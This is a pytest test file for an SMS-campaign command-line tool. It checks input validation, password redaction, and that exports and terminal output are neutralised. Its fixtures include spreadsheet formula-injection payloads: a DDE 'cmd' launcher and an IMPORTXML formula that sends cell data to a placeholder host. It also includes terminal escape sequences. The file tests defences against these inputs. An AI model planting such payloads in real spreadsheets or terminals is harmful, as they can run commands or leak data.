"""What the command line takes in and gives out, attacked: arguments and URLs out of range,
exports meant for a spreadsheet, data on its way to a terminal, pipes that close early."""

from __future__ import annotations

import csv
import io
import os
import pty
import select
import socket
import subprocess
from pathlib import Path

import pytest

from notify_tui.cli import main
from notify_tui.domain.status import classify_message
from notify_tui.domain.text import FORMULA_STARTS, spreadsheet_safe, visible
from notify_tui.services.export import COLUMNS
from notify_tui.store import optouts
from notify_tui.store.campaigns import create_campaign, set_state
from notify_tui.store.db import make_database
from notify_tui.store.models import Message, utcnow
from notify_tui.store.sending import NewRecipient, add_recipients
from notify_tui.store.updates import StatusUpdate, apply_updates

from .support import CLI, ROOT, SENDER, resolved_campaign, subprocess_env

HUGE = "99999999999999999999"


def one_line(text: str) -> str:
    assert "Traceback" not in text
    assert text.count("\n") == 1, text
    return text


# -- arguments: out of range is a usage error, one line, exit status 2 ------------------------


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["export", HUGE], "argument CAMPAIGN_ID: must be a whole number from 1 to 2,147,483,647"),
        (["export", "0"], "argument CAMPAIGN_ID: must be a whole number from 1"),
        (["send", "--resume", HUGE], "argument --resume: must be a whole number"),
        (["poll", "--campaign", HUGE], "argument --campaign: must be a whole number"),
        (["suggestions", "--campaign", HUGE], "argument --campaign: must be a whole number"),
        (["review", HUGE], "argument CAMPAIGN_ID: must be a whole number"),
        (["campaigns", "--limit", HUGE], "argument --limit: must be a whole number from 1 to"),
        (["campaigns", "--limit", "0"], "argument --limit: must be a whole number from 1 to"),
        (["campaigns", "--limit", "-1"], "argument --limit: must be a whole number from 1 to"),
        (["demo", "--recipients", HUGE], "argument --recipients: must be a whole number"),
        (["demo", "--campaigns", "0"], "argument --campaigns: must be a whole number"),
        (
            ["sandbox", "--port", "99999"],
            "argument --port: must be a whole number from 1 to 65,535",
        ),
        (["sandbox", "--port", "http"], "argument --port: must be a whole number"),
        (["sandbox", "--speed", "0"], "argument --speed: must be a number above 0"),
        (["sandbox", "--speed", "nan"], "argument --speed: must be a number above 0"),
        (["sandbox", "--error-rate", "2"], "argument --error-rate: must be a number from 0 to 1"),
        (["sandbox", "--seed", "-1"], "argument --seed: must be a whole number"),
        (["sandbox", "--max-concurrency", "0"], "argument --max-concurrency"),
        (["send", "--rate", "inf"], "argument --rate: must be a number from 0 to"),
        (["send", "--rate", "-1"], "argument --rate: must be a number from 0 to"),
        (["poll", "--timeout", "0"], "argument --timeout: must be a number above 0"),
        (["poll", "--lease", "nan"], "argument --lease: must be a number from 1 to 86,400"),
    ],
)
def test_arguments_out_of_range_are_one_line_and_exit_2(
    argv: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(argv)
    assert exited.value.code == 2
    err = one_line(capsys.readouterr().err)
    assert said in err and f"(see notify-tui {argv[0]} --help)" in err


def test_a_mistyped_command_is_one_line_too(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["campaigns", "--bogus"])
    assert exited.value.code == 2
    assert "unrecognized arguments: --bogus" in one_line(capsys.readouterr().err)


def test_a_real_process_given_a_huge_id_says_so_in_one_line(
    tmp_path: Path, sqlite_url: str
) -> None:
    env = subprocess_env(tmp_path, sqlite_url)
    for argv in (["export", HUGE], ["send", "--resume", HUGE], ["poll", "--campaign", HUGE]):
        done = subprocess.run([*CLI, *argv], cwd=ROOT, env=env, capture_output=True, text=True)
        assert done.returncode == 2 and done.stdout == ""
        assert "must be a whole number" in one_line(done.stderr)


# -- URLs: every part checked, one line, never the password -----------------------------------


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("postgresql://u:pw@127.0.0.1:notaport/db", "the port in the database URL"),
        ("postgresql://u:pw@127.0.0.1:99999/db", "must be a number from 1 to 65535"),
        ("postgresql://u:pw@127.0.0.1/db?password=other", "gives its password twice"),
        ("postgresql://u:pw@127.0.0.1:5432/db?host=h", "gives its host twice"),
        ("postgresql://u@127.0.0.1/db?port=1&port=2", "port given twice"),
        ("postgresql://u:pw@127.0.0.1/db?bogus=1", "unknown parameter bogus"),
        ("postgresql://u@127.0.0.1/db?port=http", "port in the database URL"),
        ("postgresql://u@127.0.0.1/db?connect_timeout=soon", "connect_timeout in the database"),
        ("sqlite:///tmp/x.db?mode=ro", "a SQLite URL takes no ?parameters"),
    ],
)
def test_a_database_url_is_checked_part_by_part(
    url: str, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--database-url", url, "campaigns"]) == 1
    err = one_line(capsys.readouterr().err)
    assert said in err
    assert "pw" not in err.replace("pw@", "") and "other" not in err


def test_a_password_in_the_query_never_shows() -> None:
    with pytest.raises(Exception) as failed:
        make_database("postgresql://u@127.0.0.1/db?password=s3cret&bogus=1")
    assert "s3cret" not in str(failed.value) and "password=********" in str(failed.value)


def test_what_a_url_gives_in_its_query_reaches_the_connection() -> None:
    db = make_database("postgresql://u@/work?host=db.example&port=6543&connect_timeout=4")
    params = {**db.connect_params, "database": db.database}
    assert params == {
        "database": "work",
        "user": "u",
        "host": "db.example",
        "port": 6543,
        "connect_timeout": 4,
    }
    plain = make_database("postgresql://u:p%40ss@h/db")
    assert plain.connect_params == {"user": "u", "password": "p@ss", "host": "h", "port": 5432}


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("http://127.0.0.1:notaport", "the port of the provider URL"),
        ("http://127.0.0.1:99999", "the port of the provider URL"),
        ("ftp://example.com", "must be http://host or https://host"),
        ("example.com", "must be http://host or https://host"),
        ("http://AC1:token@example.com", "must not carry credentials"),
    ],
)
def test_a_provider_url_is_checked_before_use(
    url: str, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--provider-url", url, "poll", "--once"]) == 1
    err = one_line(capsys.readouterr().err)
    assert said in err and "token" not in err


# -- exports: safe to open in a spreadsheet unless --raw ---------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://x","y")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturned",
    "Ann O'Neil",
]
PROVIDER_TEXT = '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'


def hostile_campaign() -> int:
    campaign_id = create_campaign("Hostile", "Hi", sender=SENDER)
    recipients = [NewRecipient(f"+1415555{i:04d}", name) for i, name in enumerate(HOSTILE_NAMES)]
    recipients.append(NewRecipient("=1+1", "Invalid", "not a phone number"))
    add_recipients(campaign_id, recipients)
    first = Message.get((Message.campaign == campaign_id) & (Message.phone == "+14155550000"))
    apply_updates(
        [
            StatusUpdate(
                first.id,
                classify_message("undelivered", 30008),
                provider_status="undelivered",
                error_message=PROVIDER_TEXT,
            )
        ]
    )
    return campaign_id


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_file(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_an_export_is_safe_in_a_spreadsheet_and_raw_gives_what_was_stored(
    workspace_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    campaign_id = hostile_campaign()
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    base = ["--database-url", workspace_url, "export", str(campaign_id)]
    assert main([*base, "-o", str(safe)]) == 0
    assert main([*base, "-o", str(raw), "--raw"]) == 0
    safe_rows, raw_rows = read_file(safe), read_file(raw)
    assert safe_rows[0] == raw_rows[0] == list(COLUMNS)
    names = {row[0]: row[1] for row in raw_rows[1:]}
    assert sorted(names.values()) == sorted([*HOSTILE_NAMES, "Invalid"])
    for safe_row, raw_row in zip(safe_rows[1:], raw_rows[1:], strict=True):
        for column, (shown, stored) in enumerate(zip(safe_row, raw_row, strict=True)):
            assert not shown.startswith(FORMULA_STARTS) or (
                column == 0 and shown.startswith("+") and shown[1:].isdigit()
            ), (COLUMNS[column], shown)
            assert shown == (
                stored if column == 0 and stored[1:].isdigit() else spreadsheet_safe(stored)
            )
    by_phone = {row[0]: row for row in safe_rows[1:]}
    assert by_phone["+14155550000"][1] == "'" + HOSTILE_NAMES[0]
    assert by_phone["+14155550000"][COLUMNS.index("error_message")] == "'" + PROVIDER_TEXT
    assert by_phone["'=1+1"][1] == "Invalid"  # the raw text of an invalid number is text
    assert by_phone["+14155550007"][1] == "Ann O'Neil"
    assert oct(safe.stat().st_mode & 0o777) == "0o600"


def test_export_to_standard_output_and_to_a_missing_folder(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    campaign_id = hostile_campaign()
    capsys.readouterr()
    assert main(["--database-url", sqlite_url, "export", str(campaign_id), "-o", "-"]) == 0
    captured = capsys.readouterr()
    rows = read_csv(captured.out)
    assert rows[0] == list(COLUMNS) and len(rows) == 1 + len(HOSTILE_NAMES) + 1
    assert captured.err == f"Exported 9 recipients of campaign {campaign_id} to standard output\n"
    assert not (tmp_path / "-").exists() and not Path("-").exists()

    missing = tmp_path / "nonexistent" / "x.csv"
    command = ["--database-url", sqlite_url, "export", str(campaign_id), "-o", str(missing)]
    assert main(command) == 1
    err = one_line(capsys.readouterr().err)
    assert f"there is no folder {missing.parent}" in err
    assert not missing.parent.exists()


def test_optouts_csv_is_safe_in_a_spreadsheet_and_raw_gives_what_was_stored(
    workspace_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for i, reason in enumerate(HOSTILE_NAMES):
        optouts.opt_out(f"+1415555{i:04d}", source="manual", reason=reason, actor="@admin")
    capsys.readouterr()
    assert main(["--database-url", workspace_url, "optouts", "--csv"]) == 0
    safe = read_csv(capsys.readouterr().out)
    assert main(["--database-url", workspace_url, "optouts", "--csv", "--raw"]) == 0
    raw = read_csv(capsys.readouterr().out)
    assert safe[0] == raw[0] == ["phone", "name", "source", "reason", "by", "opted_out_at"]
    assert sorted(row[3] for row in raw[1:]) == sorted(HOSTILE_NAMES)
    assert sorted(row[3] for row in safe[1:]) == sorted(map(spreadsheet_safe, HOSTILE_NAMES))
    assert {row[4] for row in safe[1:]} == {"'@admin"}
    assert all(row[0].startswith("+1415555") for row in safe[1:])


# -- the terminal: data never reaches it raw; files and pipes get it as stored ----------------

TERMINAL_ATTACK = "\x1b]0;pwned\x07\x1b[31mred\u202eevil"


def run_on_a_terminal(argv: list[str], env: dict[str, str]) -> bytes:
    """What ``notify-tui ARGV`` writes to a terminal (a pseudo-terminal as its stdout)."""
    controller, terminal = pty.openpty()
    try:
        process = subprocess.Popen(
            [*CLI, *argv], cwd=ROOT, env=env, stdout=terminal, stderr=subprocess.PIPE
        )
        os.close(terminal)
        chunks = []
        while True:
            ready, _, _ = select.select([controller], [], [], 30)
            assert ready, "no output within 30 s"
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # EIO: the process closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert process.wait(timeout=30) == 0, process.stderr.read() if process.stderr else ""
    finally:
        os.close(controller)
    return b"".join(chunks)


def test_csv_and_json_on_a_terminal_are_made_visible_and_a_pipe_gets_the_stored_text(
    tmp_path: Path, workspace_url: str
) -> None:
    optouts.opt_out("+14155550100", source="manual", reason=TERMINAL_ATTACK, actor="me")
    create_campaign(TERMINAL_ATTACK, "Hi", sender=SENDER)
    env = subprocess_env(tmp_path, workspace_url)
    for argv in (["optouts", "--csv"], ["optouts"], ["campaigns"], ["campaigns", "--json"]):
        shown = run_on_a_terminal(argv, env).decode()
        assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown, argv
    shown = run_on_a_terminal(["optouts", "--csv"], env).decode()
    assert visible(TERMINAL_ATTACK) in shown

    piped = subprocess.run(
        [*CLI, "optouts", "--csv", "--raw"], cwd=ROOT, env=env, capture_output=True, check=True
    )
    assert read_csv(piped.stdout.decode())[1][3] == TERMINAL_ATTACK


def test_a_listing_piped_into_head_stops_quietly(tmp_path: Path, sqlite_url: str) -> None:
    optouts.opt_out_many(
        [
            optouts.OptOutRequest(f"+1415555{n:04d}", "policy", "landline (30006)", "policy")
            for n in range(5000)
        ]
    )
    env = subprocess_env(tmp_path, sqlite_url)
    for argv in (["optouts"], ["optouts", "--csv"]):
        process = subprocess.Popen(
            [*CLI, *argv], cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        assert process.stdout is not None and process.stderr is not None
        process.stdout.readline()
        process.stdout.close()  # as head does after its lines
        process.wait(timeout=60)
        assert process.stderr.read() == b""


# -- the last mile of each command -------------------------------------------------------------


def test_an_unknown_region_is_refused_before_the_file_is_read(
    tmp_path: Path, sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    people = tmp_path / "people.csv"
    people.write_text("phone,name\n020 7946 0018,Ann\n", encoding="utf-8")
    command = ["--database-url", sqlite_url, "contacts", "import", str(people), "--region", "XX"]
    assert main(command) == 2
    assert "--region: 'XX' is not a country code" in one_line(capsys.readouterr().err)
    command[-1] = "gb"
    assert main(command) == 0
    assert "1 imported" in capsys.readouterr().out


def test_a_sandbox_on_a_port_in_use_says_so_in_one_line(tmp_path: Path, sqlite_url: str) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = subprocess.run(
            [*CLI, "sandbox", "--port", str(port), "--state", str(tmp_path / "s.db")],
            cwd=ROOT,
            env=subprocess_env(tmp_path, sqlite_url),
            capture_output=True,
            text=True,
            timeout=60,
        )
    assert done.returncode == 1 and done.stdout == ""
    assert f"cannot listen on 127.0.0.1:{port}: another program is listening there" in one_line(
        done.stderr
    )


def test_listings_have_headers_and_say_what_matched_nothing(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    create_campaign("Spring sale", "Hi", sender=SENDER)
    optouts.opt_out("+14155550100", source="manual", reason="asked", actor="me")
    base = ["--database-url", sqlite_url]
    assert main([*base, "campaigns", "--search", "zzz"]) == 0
    assert capsys.readouterr().out == "No campaign's name has “zzz”.\n"
    assert main([*base, "optouts", "--search", "zzz"]) == 0
    assert capsys.readouterr().out == "No opted-out number or name has “zzz”.\n"
    assert main([*base, "optouts"]) == 0
    assert capsys.readouterr().out.splitlines()[0].split()[:2] == ["PHONE", "OPTED"]
    assert main([*base, "poll", "--campaign", "999"]) == 1
    assert "no campaign with id 999" in one_line(capsys.readouterr().err)


def test_send_says_how_long_it_will_take(
    tmp_path: Path, sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    people = tmp_path / "people.csv"
    people.write_text(
        "phone\n" + "".join(f"+1415555{i:04d}\n" for i in range(120)), encoding="utf-8"
    )
    command = ["--database-url", sqlite_url, "send", "--name", "N", "--message", "Hi"]
    command += ["--csv", str(people), "--rate", "0.05"]
    assert main(command) == 1  # no terminal to confirm on: nothing is sent
    out = capsys.readouterr().out
    assert "Rate: 0.05 messages/s: about 40 minutes to send" in out


def test_visible_is_the_one_rule_the_app_and_the_commands_share() -> None:
    from notify_tui.ui.widgets.virtual_table import safe_text

    assert safe_text(TERMINAL_ATTACK).plain == visible(TERMINAL_ATTACK)
    assert visible(TERMINAL_ATTACK) == "␛]0;pwned␇␛[31mred\ufffdevil"


@pytest.mark.parametrize(
    ("variable", "value", "said"),
    [
        ("NOTIFY_SEND_RATE", "nan", "send_rate must be a number of messages per second above 0"),
        ("NOTIFY_SEND_RATE", "inf", "send_rate must be a number of messages per second above 0"),
        ("NOTIFY_PRICE_PER_SEGMENT", "NaN", "price_per_segment must be a number from 0 to 1000"),
        ("NOTIFY_PRICE_PER_SEGMENT", "1e400", "price_per_segment must be a number from 0 to"),
        ("NOTIFY_DEFAULT_REGION", "XX", "default_region must be a two-letter country code"),
    ],
)
def test_settings_out_of_range_are_one_line_too(
    variable: str,
    value: str,
    said: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv(variable, value)
    assert main(["send", "--name", "N", "--message", "Hi", "--all-contacts"]) == 1
    assert f"environment variable {variable}: {said}" in one_line(capsys.readouterr().err)


def test_doctor_shows_a_hostile_campaign_name_as_visible_text(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    campaign_id = create_campaign(TERMINAL_ATTACK, "Hi", sender=SENDER)
    add_recipients(campaign_id, [NewRecipient("+14155550100")])
    Message.update(send_state="attempting", attempted_at=utcnow()).execute()
    set_state(campaign_id, "interrupted")
    capsys.readouterr()
    assert main(["--database-url", sqlite_url, "doctor"]) == 1
    out = capsys.readouterr().out
    assert visible(TERMINAL_ATTACK) in out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out


def test_resuming_a_finished_campaign_says_nothing_was_left_to_send(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    campaign_id = resolved_campaign()
    capsys.readouterr()
    command = ["--database-url", sqlite_url, "send", "--resume", str(campaign_id), "--yes"]
    assert main(command) == 0
    assert capsys.readouterr().out == (
        f"Campaign {campaign_id} has nothing left to send: every message was submitted or "
        "refused already.\n"
    )
    assert main([*command[:-2], "4242"]) == 1
    assert "no campaign with id 4242" in one_line(capsys.readouterr().err)
